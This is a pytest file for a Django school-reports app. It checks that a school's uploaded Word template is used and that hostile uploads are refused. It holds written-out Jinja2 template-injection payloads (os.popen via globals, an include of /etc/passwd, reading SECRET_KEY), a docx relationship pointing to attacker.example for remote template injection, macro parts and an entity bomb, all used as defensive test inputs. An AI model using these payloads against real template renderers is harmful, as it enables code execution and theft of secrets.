"""A school's own template is used once it is put there; a hostile one is refused."""

from io import BytesIO
from zipfile import ZipFile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx import Document

from reports.issuing import as_docx
from reports.kinds import Kind
from reports.models import DocumentTemplate
from reports.papers import word, word_template
from reports.papers.sample import sample

PAGE = reverse("reports:templates")


@pytest.fixture
def administrator(client, school):
    client.force_login(school.world.administrator)
    return client


def put(client, content, kind=Kind.DECISION, name="mau.docx"):
    file = SimpleUploadedFile(name, content)
    return client.post(PAGE, {"kind": kind, "file": file})


def with_line(text):
    """Our template with one more paragraph at its end."""
    document = Document(BytesIO(word_template.standard()))
    document.add_paragraph(text)
    made = BytesIO()
    document.save(made)
    return made.getvalue()


def with_part(name, content):
    made = BytesIO()
    with ZipFile(BytesIO(word_template.standard())) as old, ZipFile(made, "w") as new:
        for one in old.namelist():
            new.writestr(one, old.read(one) if one != name else content)
        if name not in old.namelist():
            new.writestr(name, content)
    return made.getvalue()


def last_lines(content):
    return [one.text for one in Document(BytesIO(content)).paragraphs]


def test_the_schools_template_is_used_for_its_kind_alone(administrator, school):
    assert put(administrator, with_line("Của trường: {{ issuer }}")).status_code == 302
    unit = school.world.units["school"]
    own = as_docx(school.paper(Kind.DECISION), unit, Kind.DECISION)
    assert "Của trường: TRƯỜNG THPT PHÚ HÒA" in last_lines(own)
    other = as_docx(school.paper(Kind.MINUTES), unit, Kind.MINUTES)
    assert not any("Của trường" in one for one in last_lines(other))


def test_ours_can_be_put_back(administrator, school):
    put(administrator, with_line("Của trường"))
    administrator.post(reverse("reports:put_back", args=[Kind.DECISION]))
    content = as_docx(school.paper(Kind.DECISION), school.world.units["school"], Kind.DECISION)
    assert "Của trường" not in last_lines(content)


def test_the_template_that_is_downloaded_can_be_put_back_as_it_is(administrator):
    content = administrator.get(reverse("reports:template", args=[Kind.DECISION])).content
    assert put(administrator, content).status_code == 302


ATTACKS = {
    "classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "globals": "{{ cycler.__init__.__globals__.os.popen('touch /tmp/thidua-broken').read() }}",
    "import": "{{ self._TemplateReference__context.environment.overlay().from_string('') }}",
    "attr filter": "{{ ''|attr('__class__')|attr('__mro__') }}",
    "format": "{{ '{0.__class__.__init__.__globals__}'.format(issuer) }}",
    "change": "{{ body.append(1) }}",
    "file": "{% include '/etc/passwd' %}",
    "unknown": "{{ settings.SECRET_KEY }}",
    "huge": "{{ range(10000000)|list }}",
    "broken": "{% for x in %}",
}


@pytest.mark.parametrize("name", ATTACKS)
def test_a_hostile_template_is_refused_with_its_reason(name, administrator):
    answer = put(administrator, with_line(ATTACKS[name]))
    assert answer.status_code == 422
    assert answer.context["form"].errors["file"]
    assert not DocumentTemplate.objects.exists()


def test_the_sandbox_is_what_refuses(monkeypatch):
    """The control: without it the first attack reaches Python's classes."""
    from jinja2 import Environment

    monkeypatch.setattr(word, "SANDBOX", Environment(autoescape=True))
    content = word.render(
        sample(), with_line("{{ ''.__class__.__mro__[1].__subclasses__()|length }}")
    )
    assert last_lines(content)[-1].isdecimal()


RELATIONS = b"""<?xml version="1.0"?><Relationships
 xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9"
 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
 Target="http://attacker.example/x.dotm" TargetMode="External"/></Relationships>"""

NO_TEMPLATES = {
    "macros": with_part("word/vbaProject.bin", b"x"),
    "an outside link": with_part("word/_rels/settings.xml.rels", RELATIONS),
    "an embedded file": with_part("word/embeddings/o.bin", b"x"),
    "no zip": b"hello",
    "an empty zip": b"PK\x05\x06" + b"\0" * 18,
    "broken XML": with_part("word/document.xml", b"<w:document"),
    "an entity bomb": with_part(
        "word/_rels/settings.xml.rels", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' * 2
    ),
}


@pytest.mark.parametrize("name", NO_TEMPLATES)
def test_a_file_with_something_active_or_broken_is_refused(name, administrator):
    assert put(administrator, NO_TEMPLATES[name]).status_code == 422
    assert not DocumentTemplate.objects.exists()
